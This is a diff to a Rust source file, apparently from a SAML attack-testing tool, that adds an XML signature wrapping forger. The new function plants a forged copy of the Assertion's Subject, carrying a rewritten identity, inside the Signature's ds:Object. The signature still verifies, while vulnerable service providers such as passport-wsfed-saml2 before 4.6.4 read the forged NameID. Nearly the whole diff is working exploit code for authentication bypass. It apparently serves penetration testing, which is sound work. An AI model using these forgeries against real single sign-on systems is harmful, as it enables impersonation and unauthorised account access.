@@ -1,8 +1,11 @@
 //! XML signature wrapping: the signed element stays intact somewhere, a forged one is where
 //! the SP reads. Shapes follow SAML Raider's XSWHelpers (USENIX'12) and the published PoCs.
 
-use crate::bytes::{attr_value, before_end_tag, child, escape, insert, splice, Doc};
-use crate::family::{evil_id, forged, Parts};
+use crate::bytes::{
+    attr_value, before_end_tag, child, declares_own_namespace, escape, insert, qualified_name,
+    splice, Doc,
+};
+use crate::family::{cut, evil_id, forged, Parts};
 use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
 use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};
@@ -134,6 +137,45 @@ pub fn xsw8(f: &Forge) -> Result<Forged, Skip> {
     );
     edits.push(insert(before_end_tag(doc.src, sig), object));
     forged(p.splice_unsigned_response(edits), swap)
+}
+
+/// A forged copy of the Assertion's Subject inside the Assertion's own Signature, in a
+/// `ds:Object`: SignedInfo does not cover it and the enveloped-signature transform removes it
+/// before digesting, so the signature still verifies; a reader that finds the NameID by a
+/// descendant path (`.//Subject/NameID`) reads the copy, which comes first
+/// (passport-wsfed-saml2 < 4.6.4, CVE-2025-46572).
+pub fn subject_in_signature(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    let sig = p.need_assertion_sig()?;
+    let subject = child(p.assertion, ASSERTION_NS, "Subject")
+        .ok_or_else(|| Skip::NotApplicable("the Assertion has no Subject".into()))?;
+    if sig.range().start > subject.range().start {
+        return Err(Skip::NotApplicable(
+            "the Signature follows the Subject, so a copy inside it would not be read first".into(),
+        ));
+    }
+    let (edits, swap) = identity::rewrite_edits(&doc, subject.range(), &identity::forger(&doc));
+    if swap.forged.is_empty() {
+        return Err(Skip::NotApplicable(
+            "the Subject carries no identity value to forge".into(),
+        ));
+    }
+    let mut copy = cut(doc.src, subject.range(), edits);
+    if !declares_own_namespace(doc.src, subject) {
+        // Inside ds:Signature another default namespace is in scope: declare the Subject's.
+        let name = qualified_name(doc.src, subject);
+        let declaration = match name.split_once(':') {
+            Some((prefix, _)) => format!(" xmlns:{prefix}=\"{ASSERTION_NS}\""),
+            None => format!(" xmlns=\"{ASSERTION_NS}\""),
+        };
+        copy.insert_str(1 + name.len(), &declaration);
+    }
+    let object = format!("<ds:Object xmlns:ds=\"{DSIG_NS}\">{copy}</ds:Object>");
+    forged(
+        p.splice_unsigned_response(vec![insert(before_end_tag(doc.src, sig), object)]),
+        swap,
+    )
 }
 
 /// The signed original moved into `samlp:StatusDetail`; the forged, unsigned one in its place.
